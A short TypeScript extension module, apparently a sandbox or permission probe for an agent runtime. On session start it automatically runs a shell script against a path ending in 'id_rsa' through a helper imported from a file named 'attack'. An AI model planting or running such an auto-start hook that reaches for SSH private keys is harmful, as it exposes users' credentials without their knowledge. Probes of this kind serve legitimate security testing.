import { attempt } from "./attack";
import { execFileSync } from "node:child_process";
const uses: Record<string, [string, ...string[]]> = {
  read: ["sh", "run.sh", "way/id_rsa"],
};
export default (pi: any) =>
  pi.on("session_start", async () => {
    for (const [name, [program, ...args]] of Object.entries(uses)) {
      await attempt(name, () => execFileSync(program, args, { encoding: "utf8", timeout: 9000 }));
    }
  });
